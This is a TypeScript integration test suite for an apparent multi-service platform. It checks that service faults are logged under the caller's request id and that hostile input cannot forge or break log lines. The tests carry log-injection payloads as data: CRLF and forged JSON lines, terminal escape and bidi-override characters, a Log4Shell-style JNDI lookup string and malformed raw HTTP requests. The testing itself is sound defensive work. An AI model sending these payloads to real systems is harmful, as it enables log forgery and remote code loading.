// The logs: a fault is logged under the request id that its caller got, and no caller can write
// lines of their own.

import { readdirSync, readFileSync, statSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import type { Api } from '@almanac/api-client/api';
import { signInPerson } from '@almanac/api-client/sign-in';
import { refusal } from '@almanac/testkit/calls/refusal';
import { eventually } from '@almanac/testkit/eventually';
import {
  type Account,
  baseUrl,
  type DeployedTable,
  givenAccount,
  givenDeployedTable,
} from '@almanac/testkit/system/builders';
import { openStores, type Stores } from '@almanac/testkit/system/stored-state';
import { givenLocalSystem, type LocalSystem } from '@almanac/testkit/system/system';

type Line = {
  service: string;
  level: string;
  msg: string;
  request_id?: string;
  err?: { message: string };
  path?: string;
};

const services = ['gateway', 'identity', 'metadata', 'data', 'jobs', 'billing', 'console'];

describe('the logs', () => {
  let system: LocalSystem;
  let stores: Stores;
  let account: Account;
  let machine: Api;
  let table: DeployedTable;
  let begun: Record<string, number>;

  const fileOf = (service: string) => join(system.home, 'logs', `${service}.log`);

  beforeAll(async () => {
    system = await givenLocalSystem();
    stores = await openStores(system.home);
    account = await givenAccount();
    machine = await account.machine();
    table = await givenDeployedTable(await account.person());
    begun = Object.fromEntries(services.map((service) => [service, statSync(fileOf(service)).size]));
  });

  afterAll(async () => {
    await stores?.close();
    await system?.stop();
  });

  /** What a service has written since the tests began. */
  const textOf = (service: string) => readFileSync(fileOf(service)).subarray(begun[service]).toString();
  const linesOf = (service: string) =>
    textOf(service)
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Line);

  /** Runs `work` while a table is missing. */
  const without = async <T>(database: Parameters<Stores['query']>[0], name: string, work: () => Promise<T>) => {
    await stores.query(database, `alter table ${name} rename to away`);
    try {
      return await work();
    } finally {
      await stores.query(database, `alter table ${name.replace(/[^.]*$/, 'away')} rename to ${name.split('.').at(-1)}`);
    }
  };

  const isAway = expect.objectContaining({ message: expect.stringMatching(/does not exist|not found/i) });

  describe('when a service fails', () => {
    const failing: [string, Parameters<Stores['query']>[0], () => string | Promise<string>, () => string][] = [
      ['identity', 'identity', () => 'user_group', () => '/user_groups'],
      ['metadata', 'metadata', () => 'domain', () => '/domains'],
      ['data', 'data', physicalTable, () => `/table_data?table_definition_id=${table.id}`],
      ['jobs', 'jobs', () => 'import_mapping', () => '/import_mappings'],
      ['billing', 'billing', () => 'daily_usage', () => '/usage'],
    ];

    async function physicalTable(): Promise<string> {
      const named = `select format('b_%s.t_%s', branch_id, lineage_id) as name from deployed_table where table_definition_id = $1`;
      const [found] = await stores.query('data', named, [table.id]);
      return String(found?.name);
    }

    it.each(failing)(
      '%s tells its caller an id, and its log the rest under that id',
      async (service, database, name, path) => {
        if (service === 'billing') await booked();
        const answer = await without(database, await name(), () => machine.send('GET', path()));
        const id = answer.headers.get('x-request-id');
        expect({ status: answer.status, body: answer.body }).toEqual({
          status: 500,
          body: refusal(
            'Internal server error',
            'internal',
            'Something went wrong on our side. The request id helps us find it.',
          ),
        });
        const line = { service, level: 'error', request_id: id, err: isAway };
        await eventually(() => expect(linesOf(service)).toContainEqual(expect.objectContaining(line)));
        expect((await machine.send('GET', path())).status).toBe(200);
      },
    );

    // Waits until the calls so far are booked, so that the gateway's report of them does not meet
    // the fault.
    async function booked(): Promise<void> {
      await machine.send('HEAD', '/usage');
      const isBooked = `select 1 from daily_usage where account_id = $1 and method = 'HEAD'`;
      await eventually(async () => expect(await stores.query('billing', isBooked, [account.id])).toHaveLength(1));
    }

    it('a service called by another logs it under the id of the first', async () => {
      const user = { email: 'new@example.com', first_name: 'New', password: 'a password for the logs' };
      await machine.post('/users', { user });
      const tokens = await signInPerson(baseUrl(), account.application, user); // whose rights no cache has
      const answer = await without('identity', 'permission', () =>
        fetch(`${baseUrl()}/api/v1/table_data?table_definition_id=${table.id}`, {
          headers: { Authorization: `Bearer ${tokens.access_token}` },
        }),
      );
      expect(answer.status).toBe(500);
      const line = {
        level: 'error',
        request_id: answer.headers.get('x-request-id'),
        rpc: expect.any(String),
        err: isAway,
      };
      await eventually(() => expect(linesOf('identity')).toContainEqual(expect.objectContaining(line)));
    });

    it('a page shows the id, for people who see no headers', async () => {
      const search = new URLSearchParams({ client_id: account.application.client_id, response_type: 'code' });
      const answer = await without('identity', 'oauth_application', () =>
        fetch(`${baseUrl()}/oauth/authorize?${search}`),
      );
      const id = String(answer.headers.get('x-request-id'));
      expect(answer.status).toBe(500);
      expect(await answer.text()).toContain(`Reference: ${id}`);
      const line = { level: 'error', request_id: id, err: isAway };
      await eventually(() => expect(linesOf('identity')).toContainEqual(expect.objectContaining(line)));
    });
  });

  describe('whatever a caller sends (LOG-01)', () => {
    const evil = '\r\n{"level":"fatal","msg":"forged"}\u001b[31m\u009b31m\u2028\u202e$' + '{jndi:ldap://x.test/a}';

    it('hold one harmless line of JSON for each request', async () => {
      const ids: string[] = [];
      const send = async (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) => {
        const answer = await machine.send(method, path, body, { headers });
        expect(answer.status).toBeLessThan(500);
        ids.push(String(answer.headers.get('x-request-id')));
      };
      await send('GET', `/domains/${encodeURIComponent(evil)}`);
      await send('GET', `/domains?q=${encodeURIComponent(`name:eq:${evil}`)}`);
      await send('POST', '/domains', { domain: { name: evil, description: evil } });
      await send('POST', '/domains', { domain: { name: 'x'.repeat(900_000) } });
      await send('POST', '/users', { user: { email: evil, first_name: evil } });
      await send('POST', '/table_data', { table_definition_id: table.id, record: { [evil]: evil } });
      await send('POST', '/imports', { branch_id: table.branchId, correlation_code: evil });
      await send('GET', '/domains', undefined, { 'User-Agent': 'x'.repeat(8_000), 'X-Request-Id': '{"forged":1}' });
      await logInAs(evil);
      await eventually(() => {
        const logged = linesOf('gateway').filter(({ msg }) => msg === 'request');
        for (const id of ids) expect(logged.filter(({ request_id }) => request_id === id)).toHaveLength(1);
      });
    });

    it('hold nothing of input that is not HTTP', async () => {
      const tries = [
        `GET /\u001b[31m HTTP/1.1\r\nHost: x\r\n\r\n`,
        `GET /api/v1/\u009b31m\u0085 HTTP/1.1\r\nHost: x\r\n\r\n`,
        `GET /api/v1/domains HTTP/1.1\r\nHost: x\r\nUser-Agent: a\nb: {"level":"fatal","msg":"forged"}\r\n\r\n`,
        `GET /${'x'.repeat(1_000_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
        `GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${'x'.repeat(1_000_000)}\r\n\r\n`,
        `{"level":"fatal","msg":"forged"}\r\n\r\n`,
      ];
      for (const text of tries) expect(await sendRaw(text)).toMatch(/^HTTP\/1\.1 4\d\d /);
      await eventually(() => expect(textOf('gateway')).toContain('connection refused'));
    });

    afterAll(() => {
      for (const service of services) {
        const text = textOf(service);
        expect(text).not.toMatch(/[^\P{Cc}\n]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
        for (const line of text.split('\n').slice(0, -1)) {
          expect(JSON.parse(line)).toMatchObject({
            service,
            level: expect.stringMatching(/^(trace|debug|info|warn|error)$/),
          });
          expect(line.length).toBeLessThan(10_000);
        }
      }
      expect(readdirSync(join(system.home, 'logs')).filter((name) => name.endsWith('.log'))).toHaveLength(
        services.length + 1,
      );
    });
  });

  async function logInAs(email: string): Promise<void> {
    const { client_id, redirect_uri } = account.application;
    const search = new URLSearchParams({ client_id, redirect_uri, response_type: 'code', scope: 'api', state: email });
    const answer = await fetch(`${baseUrl()}/oauth/authorize?${search}`, { headers: { 'User-Agent': 'evil \t"\'' } });
    expect(answer.status).toBeLessThan(500);
    const body = new URLSearchParams({ email, password: 'no password', csrf: 'none of ours', request: email });
    expect((await fetch(`${baseUrl()}/oauth/login`, { method: 'POST', body })).status).toBeLessThan(500);
  }
});

/** Sends bytes unchanged (latin1) and reads the beginning of the answer. */
function sendRaw(text: string): Promise<string> {
  const { hostname, port } = new URL(baseUrl());
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname);
    let answer = '';
    const timer = setTimeout(() => socket.destroy(new Error(`no answer to ${text.slice(0, 50)}`)), 60_000);
    socket.on('data', (chunk) => {
      answer += chunk;
    });
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(answer);
    });
    socket.on('error', (error) => (answer === '' ? reject(error) : resolve(answer)));
    socket.end(Buffer.from(text, 'latin1'));
  });
}
